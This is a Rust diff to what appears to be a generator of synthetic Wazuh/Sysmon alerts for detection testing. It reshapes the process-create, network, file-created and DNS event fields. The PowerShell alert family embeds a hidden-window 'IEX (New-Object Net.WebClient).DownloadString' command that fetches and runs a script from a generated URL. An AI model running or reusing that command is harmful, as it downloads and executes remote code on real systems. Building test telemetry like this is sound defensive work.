@@ -226,6 +226,34 @@ type FamilyParts = (
     Option<(&'static str, Value)>,
 );
 
+/// A Sysmon event as Wazuh's eventchannel decoder writes it: the common fields and `fields`
+/// in `eventdata` (backslashes doubled, as Wazuh does), and the event rendered as text the way
+/// Windows does (`Title:\r\nRuleName: ..\r\nUtcTime: ..`), which becomes `system.message`.
+fn sysmon_event(process_id: u32, title: &str, fields: &[(&str, String)]) -> Value {
+    let common = [
+        (
+            "ruleName",
+            "technique_id=T1059.001,technique_name=PowerShell".to_string(),
+        ),
+        ("utcTime", "2026-11-26 09:10:11.352".to_string()),
+        (
+            "processGuid",
+            "{4dc16835-e854-6116-9224-950000000000}".to_string(),
+        ),
+        ("processId", process_id.to_string()),
+    ];
+    let mut eventdata = serde_json::Map::new();
+    let mut message = format!("\"{title}:");
+    for (key, value) in common.iter().chain(fields) {
+        eventdata.insert((*key).to_string(), Value::String(value.clone()));
+        let mut label = key.to_string();
+        label[..1].make_ascii_uppercase();
+        message.push_str(&format!("\r\n{label}: {}", value.replace("\\\\", "\\")));
+    }
+    message.push('"');
+    json!({"win": {"eventdata": eventdata, "message": message}})
+}
+
 fn generate_alert(rng: &mut StdRng, intel: &GenIntel, hit_rate: f64, n: usize) -> GenAlert {
     let family = FAMILIES[rng.random_range(0..FAMILIES.len())];
     let plant = !intel.attributes.is_empty() && rng.random_bool(hit_rate);
@@ -278,18 +306,61 @@ fn generate_alert(rng: &mut StdRng, intel: &GenIntel, hit_rate: f64, n: usize) -
             let sha1 = { let fallback = hex(rng, 40); take(rng, &["sha1"], fallback) }.to_uppercase();
             let url = { let fallback = format!("http://{}/{}.ps1", domain(rng), word(rng, 3, 8)); take(rng, &["url"], fallback) };
             let cmd = format!("powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{url}')\"");
-            ("92052", 12, "Suspicious PowerShell", json!({"win": {"system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "1", "computer": "WS01.corp.local"},
-                "eventdata": {"image": "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe", "commandLine": cmd,
-                              "hashes": format!("SHA1={sha1},MD5={},SHA256={},IMPHASH={}", hex(rng, 32).to_uppercase(), hex(rng, 64).to_uppercase(), hex(rng, 32).to_uppercase())}}}), None, None)
+            let hashes = format!("SHA1={sha1},MD5={},SHA256={},IMPHASH={}", hex(rng, 32).to_uppercase(), hex(rng, 64).to_uppercase(), hex(rng, 32).to_uppercase());
+            let user = format!("CORP\\\\{}", word(rng, 3, 8));
+            ("92052", 12, "Suspicious PowerShell", sysmon_event(rng.random_range(100..9999), "Process Create", &[
+                ("image", "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe".into()),
+                ("fileVersion", "10.0.19041.546 (WinBuild.160101.0800)".into()),
+                ("description", "Windows PowerShell".into()),
+                ("product", "Microsoft® Windows® Operating System".into()),
+                ("company", "Microsoft Corporation".into()),
+                ("originalFileName", "PowerShell.EXE".into()),
+                ("commandLine", cmd),
+                ("currentDirectory", format!("C:\\\\Users\\\\{}\\\\", word(rng, 3, 8))),
+                ("user", user.clone()),
+                ("logonGuid", "{4dc16835-596f-6089-d6a0-040000000000}".into()),
+                ("logonId", "0x4a0d6".into()),
+                ("terminalSessionId", "1".into()),
+                ("integrityLevel", "High".into()),
+                ("hashes", hashes),
+                ("parentProcessGuid", "{4dc16835-c189-6089-a003-000000002e00}".into()),
+                ("parentProcessId", rng.random_range(100..9999).to_string()),
+                ("parentImage", "C:\\\\Windows\\\\explorer.exe".into()),
+                ("parentCommandLine", "C:\\\\Windows\\\\Explorer.EXE".into()),
+                ("parentUser", user),
+            ]), None, None)
         }
-        "sysmon3" => ("92101", 8, "Powershell process communicating over TCP", json!({"win": {"system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "3"},
-                "eventdata": {"image": "C:\\\\Windows\\\\System32\\\\svchost.exe", "sourceIp": "10.0.2.20", "destinationIp": ip, "destinationPort": "443", "destinationHostname": host}}}), None, None),
-        "sysmon11" => ("92213", 9, "Executable dropped", json!({"win": {"system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "11"},
-                "eventdata": {"image": "C:\\\\Windows\\\\System32\\\\cmd.exe", "targetFilename": format!("C:\\\\Users\\\\bob\\\\AppData\\\\{}.exe", word(rng, 4, 8))}}}), None, None),
+        "sysmon3" => ("92101", 8, "Powershell process communicating over TCP", sysmon_event(rng.random_range(100..9999), "Network connection detected", &[
+                ("image", "C:\\\\Windows\\\\System32\\\\svchost.exe".into()),
+                ("user", "NT AUTHORITY\\\\NETWORK SERVICE".into()),
+                ("protocol", "tcp".into()),
+                ("initiated", "true".into()),
+                ("sourceIsIpv6", "false".into()),
+                ("sourceIp", "10.0.2.20".into()),
+                ("sourceHostname", "WS01.corp.local".into()),
+                ("sourcePort", rng.random_range(1024..65535).to_string()),
+                ("sourcePortName", "-".into()),
+                ("destinationIsIpv6", "false".into()),
+                ("destinationIp", ip.clone()),
+                ("destinationHostname", host.clone()),
+                ("destinationPort", "443".into()),
+                ("destinationPortName", "https".into()),
+            ]), None, None),
+        "sysmon11" => ("92213", 9, "Executable dropped", sysmon_event(rng.random_range(100..9999), "File created", &[
+                ("image", "C:\\\\Windows\\\\System32\\\\cmd.exe".into()),
+                ("targetFilename", format!("C:\\\\Users\\\\bob\\\\AppData\\\\{}.exe", word(rng, 4, 8))),
+                ("creationUtcTime", "2026-11-26 09:10:11.352".into()),
+                ("user", "CORP\\\\bob".into()),
+            ]), None, None),
         "sysmon22" => {
             let query = { let fallback = domain(rng); take(rng, &["domain", "hostname"], fallback) };
-            ("92200", 6, "Sysmon - Event 22: DNS query", json!({"win": {"system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "22"},
-                "eventdata": {"image": "C:\\\\Program Files\\\\Mozilla Firefox\\\\firefox.exe", "queryName": query, "queryResults": format!("::ffff:{};", public_ipv4(rng))}}}), None, None)
+            ("92200", 6, "Sysmon - Event 22: DNS query", sysmon_event(rng.random_range(100..9999), "Dns query", &[
+                ("queryName", query),
+                ("queryStatus", "0".into()),
+                ("queryResults", format!("::ffff:{};", public_ipv4(rng))),
+                ("image", "C:\\\\Program Files\\\\Mozilla Firefox\\\\firefox.exe".into()),
+                ("user", "CORP\\\\bob".into()),
+            ]), None, None)
         }
         "suricata" => {
             let http_host = { let fallback = host.clone(); take(rng, &["domain", "hostname"], fallback) };
@@ -313,10 +384,14 @@ fn generate_alert(rng: &mut StdRng, intel: &GenIntel, hit_rate: f64, n: usize) -
         let system = json!({"providerName": "Microsoft-Windows-Sysmon", "providerGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
             "eventID": family.trim_start_matches("sysmon"), "version": "5", "level": "4", "task": "1", "opcode": "0", "keywords": "0x8000000000000000",
             "systemTime": "2026-11-26T09:10:11.3643213Z", "eventRecordID": rng.random_range(1000..999999).to_string(), "processID": "2204", "threadID": "3300",
-            "channel": "Microsoft-Windows-Sysmon/Operational", "computer": "WS01.corp.local", "severityValue": "INFORMATION",
-            "message": format!("\"Sysmon event\r\nRuleName: -\r\nUtcTime: 2026-11-26 09:10:11.352\r\nProcessGuid: {{4dc16835-c18b-6089-a203-000000002e00}}\r\nProcessId: {}\r\nUser: CORP\\{}\"", rng.random_range(100..9999), word(rng, 3, 8))});
+            "channel": "Microsoft-Windows-Sysmon/Operational", "computer": "WS01.corp.local", "severityValue": "INFORMATION"});
         if let Some(win) = data.get("win").cloned() {
             let mut win = win;
+            let mut system = system;
+            // The rendered message travels in `win.message` from `sysmon_event` to its place.
+            if let Some(message) = win.as_object_mut().and_then(|w| w.remove("message")) {
+                system["message"] = message;
+            }
             win["system"] = system;
             let mut data_with_system = data.clone();
             data_with_system["win"] = win;
